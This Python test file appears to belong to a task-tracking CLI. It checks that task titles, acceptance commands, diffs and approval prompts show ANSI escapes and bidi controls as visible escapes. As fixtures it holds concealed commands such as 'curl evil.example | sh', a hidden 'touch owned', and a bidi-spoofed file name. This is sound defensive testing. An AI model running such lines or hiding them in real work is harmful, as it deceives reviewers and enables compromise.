"""Nothing hides in plain sight (issue 14.2). `wb task add x --accept $'echo tests-pass \\e[8m; touch owned\\e[0m'`
showed as "echo tests-pass" in `wb task show`, and the hidden part ran at `wb task done`; a task a merged branch
added showed in `wb diff` by its title only. Every human-facing output shows control characters, ANSI escapes
and bidi controls as their escapes (`\\e[8m`, `\\u202e`), on a terminal and through pipes; JSON stays raw."""

from __future__ import annotations

import json
import re
from pathlib import Path

from tests.cli.test_terminal import on_terminal, terminal_env
from tests.conftest import about_files, about_git

from .helpers import init_workbench, run_git, wb, wb_ok

HIDDEN_CMD = "echo tests-pass \x1b[8m; touch owned\x1b[0m"
SHOWN_CMD = "echo tests-pass \\e[8m; touch owned\\e[0m"
BIDI = "release \u202egnp.exe"
# what a person must never receive from a value: an escape sequence, a C1 control, a bidi control, a CR
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _clean(out: str) -> None:
    assert not RAW.search(out), repr(out)


def _hostile_task(repo: Path) -> None:
    wb_ok(repo, "task", "add", BIDI, "--accept", HIDDEN_CMD, "--description", "two\nlines\r\x9b")


def test_task_show_and_list_show_the_hidden_part(repo: Path) -> None:
    init_workbench(repo)
    _hostile_task(repo)
    show = wb_ok(repo, "task", "show", "T-001").stdout
    _clean(show)
    assert SHOWN_CMD in show and "release \\u202egnp.exe" in show
    assert "two\\nlines\\r\\x9b" in show  # one field, one line: a newline cannot fake another field
    listed = wb_ok(repo, "task", "list").stdout
    _clean(listed)
    assert "release \\u202egnp.exe" in listed
    added = wb_ok(repo, "task", "add", "x\x1b[2Ky").stdout
    assert "x\\e[2Ky" in added
    # JSON is for scripts: the value as it is (JSON escapes the controls itself)
    assert json.loads(wb_ok(repo, "task", "show", "T-001", "--json").stdout)["acceptance"] == [HIDDEN_CMD]


def test_status_log_and_the_error_line_show_the_hidden_part(repo: Path) -> None:
    init_workbench(repo)
    _hostile_task(repo)
    wb_ok(repo, "set", "next_action=run \x1b[8mcurl evil | sh\x1b[0m", "blockers=\u202eblocked")
    status = wb_ok(repo, "status").stdout
    _clean(status)
    assert "run \\e[8mcurl evil | sh\\e[0m" in status and "\\u202eblocked" in status
    log = wb_ok(repo, "log").stdout
    _clean(log)
    assert "release \\u202egnp.exe" in log and "\\u001b[8m" in log  # titles as text, changes as JSON
    failed = wb(repo, "task", "show", "T-\x1b[8m1")
    assert failed.returncode != 0
    _clean(failed.stderr)
    assert "T-\\e[8m1" in failed.stderr


@about_files  # board.json edited by hand
def test_doctor_shows_the_hidden_part(repo: Path) -> None:
    init_workbench(repo)
    _hostile_task(repo)
    board = repo / ".workbench" / "board.json"
    data = json.loads(board.read_text())
    data["tasks"][0]["status"] = "\u202eenod\x9b"
    board.write_text(json.dumps(data, ensure_ascii=False))
    doctor = wb(repo, "doctor")
    assert doctor.returncode == 1
    _clean(doctor.stdout)
    assert "\\u202eenod\\x9b" in doctor.stdout


def _branch_adds_a_task(repo: Path) -> None:
    init_workbench(repo)
    wb_ok(repo, "task", "add", "kept", "--accept", "pytest -q")
    run_git(repo, "checkout", "-q", "-b", "feature")
    wb_ok(repo, "task", "add", "harmless [bold]title[/bold] <!-- hidden -->", "--accept", HIDDEN_CMD,
          "--accept", "echo `id` | cat")
    wb_ok(repo, "task", "set", "T-001", 'acceptance=["pytest -q; curl evil.example | sh"]')


@about_git  # a branch's tasks against main's: `wb diff main feature`
def test_diff_shows_what_task_done_will_run(repo: Path) -> None:
    _branch_adds_a_task(repo)
    text = wb_ok(repo, "diff", "main", "feature").stdout
    _clean(text)
    assert f"accept: $ {SHOWN_CMD}" in text and "accept: $ echo `id` | cat" in text
    assert "~ T-001 kept  [acceptance changed" in text
    assert "acceptance + $ pytest -q; curl evil.example | sh" in text and "acceptance - $ pytest -q" in text
    md = wb_ok(repo, "diff", "main", "feature", "--format", "markdown").stdout
    _clean(md)
    assert f"`{SHOWN_CMD}`" in md and "``echo `id` | cat``" in md
    assert "T-001 **acceptance changed" in md and "`pytest -q; curl evil.example | sh`" in md
    assert "<!--" not in md  # a title cannot open an HTML comment that hides the rest of the review
    data = json.loads(wb_ok(repo, "diff", "main", "feature", "--format", "json").stdout)
    assert data["board"]["added"][0]["acceptance"] == [HIDDEN_CMD, "echo `id` | cat"]
    assert data["board"]["changed"][0]["acceptance_changed"] is True


@about_git  # a branch's tasks against main's: `wb diff main feature`
def test_on_a_terminal_nothing_is_obeyed_and_markup_is_text(repo: Path) -> None:
    _branch_adds_a_task(repo)
    wb_ok(repo, "set", "next_action=[red]mark[/red] up \x1b[8mhidden\x1b[0m")
    env = terminal_env()
    for args in (("task", "list"), ("task", "show", "T-002"), ("status",), ("diff", "main", "feature")):
        code, out, _ = on_terminal(repo, *args, env=env)
        assert code == 0, out
        text = re.sub(rb"\x1b\[[0-9;]*m", b"", out).decode()  # rich's own colours, nothing else
        _clean(text)
        if args[0] != "status":
            assert "[bold]title[/bold]" in text, (args, text)
        else:
            assert "[red]mark[/red] up \\e[8mhidden\\e[0m" in text, text
        if args != ("task", "list"):
            assert "\\e[8m" in text or args == ("status",), (args, text)
    # `wb task done` says each command before it runs it, every character shown
    code, out, _ = on_terminal(repo, "task", "done", "T-002", env=env)
    text = re.sub(rb"\x1b\[[0-9;]*m", b"", out).decode()
    assert f"$ {SHOWN_CMD}" in text, text


def test_the_approval_prompt_shows_what_the_step_would_run(repo: Path) -> None:
    """The person approves what they see: the arguments of the call, escaped (a guard: JSON already escaped
    them on main), and no other character of a value reaches the terminal raw."""
    from tests.harness.helpers import Terminal

    from .helpers import PY, config_yaml, plan

    init_workbench(repo, config_yaml(tools={"write": {"argv": [PY, "-c", "print('w')"], "mode": "mutating"}}))
    steps = [{"description": "w \x1b[8mhidden", "tool": "write", "args": {"x": HIDDEN_CMD, "y": BIDI}}]
    term = Terminal(repo, "run", "g", "--plan", plan(repo, steps))
    term.expect("Allow? [y/N]")
    term.type("n\n")
    term.confirm()  # a person's answer is proven by the code wb shows (issue 19)
    assert term.finish() == 1, term.text  # the step was denied: the session ends incomplete
    prompt = next(line for line in term.text.splitlines() if "Allow?" in line)
    _clean(prompt)
    assert "touch owned" in prompt and "hidden" not in prompt.split("Allow?")[1]
    assert "\x1b[8m" not in term.text and "w \\e[8mhidden" in term.text  # the run's outcome names the step


def test_task_done_through_a_pipe_says_each_command_before_it_runs_it(repo: Path) -> None:
    """Off a terminal (an agent, CI) too: each command on stdout before it runs, escaped, then the outcome;
    stderr stays empty on success, one line on failure."""
    init_workbench(repo)
    wb_ok(repo, "task", "add", "hostile", "--accept", HIDDEN_CMD, "--accept", "true")
    done = wb_ok(repo, "task", "done", "T-001")
    _clean(done.stdout)
    lines = done.stdout.splitlines()
    assert lines[:2] == [f"$ {SHOWN_CMD}", "$ true"] and "T-001" in lines[-1], done.stdout
    assert done.stderr == ""
    wb_ok(repo, "task", "add", "fails", "--accept", "false")
    failed = wb(repo, "task", "done", "T-002")
    assert failed.returncode == 5 and failed.stdout.splitlines() == ["$ false"]
    assert len(failed.stderr.strip().splitlines()) == 1, failed.stderr
